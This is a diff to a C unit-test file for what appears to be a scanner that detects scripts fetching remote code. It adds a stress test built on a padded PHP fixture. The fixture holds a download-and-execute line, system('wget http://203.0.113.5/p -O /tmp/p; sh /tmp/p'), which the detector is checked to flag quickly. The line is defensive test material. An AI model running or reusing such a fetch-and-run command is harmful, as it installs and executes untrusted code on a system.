@@ -3,6 +3,8 @@
  * written and run, scripts in other languages. */
 #include "fake_image.h"
 
+#include <time.h>
+
 static int severity_of(struct fake *k, const char *rule)
 {
 	fake_run(k);
@@ -46,6 +48,32 @@ static void scripts_in_other_languages_give_what_they_do_and_no_more(void **stat
 		if (got != cases[i].severity)
 			fail_msg("script %zu: severity %d, expected %d:\n%s", i, got, cases[i].severity, cases[i].text);
 		fake_end(&k);
+	}
+}
+
+/* Each assignment's value holds all that follow, and each bracket all within. */
+static void what_swells_a_script_is_given_up(void **state)
+{
+	static const char *const ends[] = { "$a=", "urlopen(", "sprintf(" };
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(ends); i++) {
+		struct fake k;
+		struct buf text = { 0 };
+		buf_text(&text, "<?php\n");
+		for (int v = 0; v < 500; v++)
+			buf_printf(&text, "$v%d='x';\n", v);
+		buf_text(&text, "system('wget http://203.0.113.5/p -O /tmp/p; sh /tmp/p');\n");
+		while (text.n < 200000)
+			buf_text(&text, ends[i]);
+		buf_u8(&text, 0);
+		fake_begin(&k);
+		(void)fake_file(&k, "a.php", SCENE_OTHER, (const char *)text.p);
+		clock_t begun = clock();
+		int severity = severity_of(&k, "fw.script-fetch");
+		assert_true(clock() - begun < 5 * CLOCKS_PER_SEC);
+		assert_true(severity >= SEV_MEDIUM);     /* what stood before it is told */
+		fake_end(&k);
+		buf_done(&text);
 	}
 }
 
@@ -288,6 +316,7 @@ int main(void)
 {
 	static const struct CMUnitTest tests[] = {
 		cmocka_unit_test(scripts_in_other_languages_give_what_they_do_and_no_more),
+		cmocka_unit_test(what_swells_a_script_is_given_up),
 		cmocka_unit_test(rules_of_udev_and_mdev_run_commands),
 		cmocka_unit_test(clients_of_libraries_have_destinations_and_passwords),
 		cmocka_unit_test(what_libcurl_writes_into_a_file_came_from_its_address),
